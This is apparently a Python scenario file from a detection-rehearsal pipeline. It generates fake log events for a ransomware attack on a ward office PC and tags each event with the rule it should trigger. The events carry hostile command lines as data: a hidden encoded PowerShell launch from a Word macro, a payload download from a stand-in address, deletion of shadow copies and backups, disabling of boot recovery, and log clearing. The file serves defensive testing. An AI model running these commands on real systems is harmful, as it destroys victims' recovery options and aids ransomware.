"""A ward's PC opens a letter and loses its ways back: what comes before the ransom note.

T1204.002, T1059.001, T1105, T1490, T1070.001, T1486. From 09:40: Word starts PowerShell, a program
comes from a bare address through the proxy, copies and recovery are removed, the audit log is
cleared, documents get a new ending.
"""

from __future__ import annotations

from datetime import datetime
from random import Random

from pipeline.rehearsal.lines import Draft, Trip
from pipeline.rehearsal.stories import rule_ids as rules
from pipeline.rehearsal.stories.base import Tale
from pipeline.rehearsal.wire import squid, windows

PC, PROXY = "dt-phuong-ben-ngoc.windows", "dt-phuong-ben-ngoc.squid"
HOST, CLIENT, FAR = "PBN-PC07.benngoc.example", "10.21.2.47", "203.0.113.90"
USER = "BENNGOC\\mai.truong"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
PAYLOAD = "C:\\Users\\Public\\cap-nhat.exe"
SYSTEM32 = "C:\\Windows\\System32\\"
REMOVALS = (
    ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    ("wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive"),
    ("bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No"),
    ("bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
    ("wbadmin.exe", "wbadmin.exe delete catalog -quiet"),
)
ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"


def tell(start: datetime, rng: Random) -> list[Draft]:
    tale = Tale("ransomware", start)
    tale.begin(9, 40)
    tale.tell(
        PC,
        windows.process(
            tale.at, rng, HOST, POWERSHELL, f"powershell.exe -nop -w hidden -enc {ENCODED}", parent=WORD,
            parent_command=f'"{WORD}" /n "C:\\Users\\mai.truong\\Downloads\\Công văn khẩn 118.docm"',
            user=USER, folder="C:\\Users\\mai.truong\\Downloads\\",
        ),
        Trip(rules.WINDOWS_OFFICE_SCRIPT, HOST),
    )  # fmt: skip
    for _ in range(2):
        tale.wait(rng.uniform(2, 6))
        tale.tell(
            PROXY,
            squid.access(
                tale.at, rng, CLIENT, "GET", f"http://{FAR}/tai/cap-nhat.exe", peer=FAR, size=748_544,
                kind="application/octet-stream",
            ),
            Trip(rules.SQUID_PROGRAM_FROM_ADDRESS, CLIENT),
        )  # fmt: skip
    for image, command in REMOVALS:
        tale.wait(rng.uniform(1, 9))
        tale.tell(
            PC,
            windows.process(
                tale.at,
                rng,
                HOST,
                SYSTEM32 + image,
                command,
                parent=PAYLOAD,
                folder="C:\\Users\\Public\\",
            ),
            Trip(rules.WINDOWS_RECOVERY_REMOVED, HOST),
        )
    tale.wait(4)
    tale.tell(
        PC, windows.log_cleared(tale.at, HOST, "mai.truong"), Trip(rules.WINDOWS_LOG_CLEARED, HOST)
    )
    for number in range(80):
        tale.wait(rng.uniform(0.05, 0.5))
        tale.tell(
            PC,
            windows.file_created(
                tale.at, rng, HOST, PAYLOAD,
                f"D:\\HoSo\\Hộ tịch\\khai-sinh-{number:03d}.docx.khoa", "NT AUTHORITY\\SYSTEM",
            ),
            Trip(rules.CORRELATION_MASS_RENAME, HOST.lower(), "correlation"),
        )  # fmt: skip
    return tale.drafts
